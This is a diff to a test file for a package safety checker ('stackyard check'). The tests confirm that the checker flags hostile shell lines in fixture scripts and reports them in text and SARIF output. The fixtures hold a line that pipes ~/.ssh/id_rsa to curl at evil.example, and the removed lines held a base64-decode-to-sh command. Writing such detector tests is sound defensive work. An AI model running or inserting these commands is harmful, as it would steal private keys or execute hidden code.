@@ -18,6 +18,8 @@ import { runResidentClient } from './client-process.ts';
 const ROOT = join(import.meta.dirname, '../..');
 const MANIFEST =
   '{"name":"dates","version":"1.0.0","kind":"module","description":"Reads dates","license":"MIT"}\n';
+/** A line that is an error by itself: what it reads and where that goes are both in it. */
+const SENDS = 'cat ~/.ssh/id_rsa | curl -d @- https://evil.example/x';
 const folders: string[] = [];
 
 afterEach(() => {
@@ -68,13 +70,13 @@ describe('stackyard check', () => {
   it('underlines the place, names the remedy, and ends with 10 on an error', async () => {
     const folder = made({
       'stackyard.json': MANIFEST,
-      'x.sh': '#!/bin/sh\n\techo aGk= | base64 -d | sh\n',
+      'x.sh': `#!/bin/sh\n\t${SENDS}\n`,
     });
     const { status, out } = await run(folder);
     expect(status).toBe(10);
-    expect(out).toContain('safety\n  error  shell-fetch-decode  x.sh:2:2\n');
-    expect(out).toContain('      |  echo aGk= | base64 -d | sh\n      |  ^^^^^^^');
-    expect(out).toContain('Write the commands as they are.');
+    expect(out).toContain('safety\n  error  shell-fetch-send  x.sh:2:2\n');
+    expect(out).toContain(`      |  ${SENDS}\n      |  ^^^^^^^`);
+    expect(out).toContain('      Remove it.');
     expect(out).toMatch(/^local\/dates: risk danger, quality \d+; error \d/m);
   });
 
@@ -105,7 +107,7 @@ describe('stackyard check', () => {
     const folder = made({
       'stackyard.json': MANIFEST,
       '.gitignore': 'dist\n',
-      'dist/x.sh': 'echo aGk= | base64 -d | sh\n',
+      'dist/x.sh': `${SENDS}\n`,
     });
     expect((await run(folder)).status).toBe(10);
     await new Promise((done) => execFile('git', ['init', '-q', folder], done));
@@ -115,7 +117,7 @@ describe('stackyard check', () => {
   it('prints SARIF that matches its schema', async () => {
     const folder = made({
       'stackyard.json': MANIFEST,
-      'a b.sh': 'echo aGk= | base64 -d | sh\n',
+      'a b.sh': `${SENDS}\n`,
       'c.png': '#!/bin/sh\n',
     });
     const { status, out } = await run(folder, '--sarif');
@@ -137,7 +139,7 @@ describe('stackyard check', () => {
     expect(isValid(log), JSON.stringify(isValid.errors)).toBe(true);
     expect(status).toBe(10);
     const results = log.runs[0]!.results;
-    expect(results.find(({ ruleId }) => ruleId === 'shell-fetch-decode')).toMatchObject({
+    expect(results.find(({ ruleId }) => ruleId === 'shell-fetch-send')).toMatchObject({
       level: 'error',
       locations: [
         {
